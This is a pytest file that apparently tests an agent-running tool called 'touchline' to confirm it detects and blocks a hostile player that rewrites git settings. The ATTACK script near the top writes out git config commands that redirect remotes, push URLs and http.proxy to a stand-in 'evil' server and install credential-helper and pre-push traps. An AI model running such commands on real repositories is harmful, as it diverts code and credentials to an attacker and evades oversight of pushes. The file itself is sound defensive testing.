"""A player that edits git's own settings: no push goes elsewhere, nobody gets a credential, and it is noticed.

Each way on its own, against git itself, stands in tests/forges/test_config_attacks.py; here they come all together in
a whole run.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from touchline.testing.forges import GitHttpServer, make_hosted
from touchline.testing.repositories import git

ATTACK = """#!/bin/sh
git config url.{evil}/.insteadOf {host}/
git config remote.{host}/widget.git.url {evil}/widget.git
git config remote.upstream.pushurl {evil}/widget.git
git config http.proxy {evil}
git config credential.helper '{trap}'
git config core.sshCommand '{trap}'
git config core.hooksPath {hooks}
mkdir -p .git/hooks && cp '{trap}' .git/hooks/pre-push
"""


class Attack:
    """The script of a hostile player, and what it would have caught."""

    def __init__(self, scene: Any, folder: Path, evil: GitHttpServer) -> None:
        self.evil, self.sprung = evil, folder / "sprung"
        trap = folder / "trap"
        trap.write_text(f"#!/bin/sh\ncat >> '{self.sprung}'\nexit 1\n")
        trap.chmod(0o755)
        (folder / "hooks").mkdir()
        (folder / "hooks" / "pre-push").write_bytes(trap.read_bytes())
        (folder / "hooks" / "pre-push").chmod(0o755)
        self.script = folder / "attack"
        self.script.write_text(ATTACK.format(evil=evil.url, host=scene.server.url, trap=trap, hooks=folder / "hooks"))

    @property
    def caught(self) -> bool:
        return bool(self.evil.requests) or self.sprung.exists()


def player(script: Path, last: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [{"run": {"command": f"sh {script}"}}, *last]


@pytest.mark.slow
def test_settings_that_a_player_writes_steer_no_push_and_stand_against_approval(
    make_scene: Any, attempt_of: Any, tmp_path: Path
) -> None:
    make_hosted(tmp_path / "evil" / "widget.git")
    script = tmp_path / "attack"
    turns = [player(script, attempt_of(3))]
    allowed = {"allow": [f"bash(sh {script})"]}
    with (
        GitHttpServer(tmp_path / "evil") as evil,
        make_scene("scene", turns, permissions=allowed) as scene,
    ):
        attack = Attack(scene, tmp_path, evil)
        ran = scene.run("--max-turns", "1")
        assert not attack.caught
        assert ran.block["STATUS"] == "TURN_LIMIT_VERIFY", ran.err
        assert git(scene.bare, "log", "-1", "--format=%s", "touchline/set-the-value") == "Set the value to 3"
        (ledger,) = scene.ledgers
        told = json.dumps(ledger["findings"]) + json.dumps(ledger["turns"][0]["concerns"])
        for setting in ("core.hookspath", "http.proxy", "remote.upstream.pushurl", "credential.helper", "pre-push"):
            assert setting in told, setting
        (before_the_push,) = [text for text in ledger["turns"][0]["concerns"] if "no push uses them" in text]
        assert "setting http.proxy was added" in before_the_push
        assert any("coach" in finding["sources"] and finding["severity"] >= 8 for finding in ledger["findings"])


@pytest.mark.slow
def test_a_run_goes_on_only_with_the_settings_that_it_began_with(
    make_scene: Any, attempt_of: Any, tmp_path: Path
) -> None:
    make_hosted(tmp_path / "evil" / "widget.git")
    with GitHttpServer(tmp_path / "evil") as evil, make_scene("scene", [attempt_of(3)]) as scene:
        scene.server.fail("refused", 33)  # the target can no longer be fetched for the verification
        paused = scene.run()
        assert paused.block["STATUS"] == "FAILED_RUN", paused.err
        scene.server.heal()
        requests = len(scene.server.requests)
        config = scene.project.path / ".git/config"
        before = config.read_bytes()
        config.write_bytes(before + f"[http]\n\tproxy = {evil.url}\n".encode())
        again = scene.run()
        assert again.block["STATUS"] == "FAILED_RUN"
        assert "setting http.proxy was added" in again.err
        assert again.block["PR_URL"].endswith("#change-1"), "the block tells what the ledger knows"
        assert again.block["TURNS_USED"] == "1 of 10"
        # With another URL the project itself has another name; its run is found all the same.
        config.write_bytes(before.replace(scene.server.url.removeprefix("http://").encode(), evil.url[7:].encode()))
        elsewhere = scene.run()
        assert elsewhere.block["STATUS"] == "FAILED_PUBLISH"
        assert "setting remote.upstream.url was changed" in elsewhere.err
        assert (evil.requests, len(scene.server.requests)) == ([], requests)
        config.write_bytes(before)
        assert scene.run().block["STATUS"] == "APPROVED_DRAFT_OPEN"


@pytest.mark.slow
def test_the_next_run_does_not_take_over_what_a_player_wrote(make_scene: Any, attempt_of: Any, tmp_path: Path) -> None:
    script = tmp_path / "attack"
    turns = [player(script, attempt_of(1)), attempt_of(3)]
    with (
        GitHttpServer(tmp_path) as evil,
        make_scene("scene", turns, permissions={"allow": [f"bash(sh {script})"]}) as scene,
    ):
        script.write_text(f"git config http.proxy {evil.url}\n")
        assert scene.run("--max-turns", "1").block["STATUS"] == "TURN_LIMIT_VERIFY"
        refused = scene.run()
        assert refused.block["STATUS"] == "FAILED_PUBLISH"
        assert "steer pushes were changed while the run of touchline/set-the-value went on" in refused.err
        scene.project.git("config", "--unset", "http.proxy")
        scene.project.git("remote", "add", "zfork", str(tmp_path / "elsewhere.git"))  # by the person, after the run
        scene.project.git("config", "remote.pushDefault", "upstream")
        script.write_text("true\n")
        assert scene.run().block["STATUS"] == "APPROVED_DRAFT_OPEN"
        assert evil.requests == []
